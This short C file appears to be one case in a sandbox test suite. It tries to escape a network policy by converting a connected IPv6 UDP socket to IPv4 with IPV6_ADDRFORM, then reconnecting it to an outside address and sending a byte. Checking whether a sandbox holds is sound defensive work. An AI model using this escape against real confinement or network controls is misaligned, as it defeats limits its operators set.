// escape: turns a connected IPv6 socket into an IPv4 one (IPV6_ADDRFORM) and connects that again
// group: descriptor tricks
// policy: network
#include "escape.h"

static void attack(void) {
  struct sockaddr_in6 first = ipv6("::ffff:127.0.0.1", kPort);
  struct sockaddr_in second = stranger();
  const int ipv4_form = AF_INET, fd = udp(AF_INET6);
  if (connect(fd, ADDRESS(first)) < 0) broken("connect");
  if (setsockopt(fd, IPPROTO_IPV6, IPV6_ADDRFORM, &ipv4_form, sizeof ipv4_form) < 0) broken("IPV6_ADDRFORM");
  if (connect(fd, ADDRESS(second)) < 0 || send(fd, "x", 1, 0) < 0) held("connect: %s", strerror(errno));
}
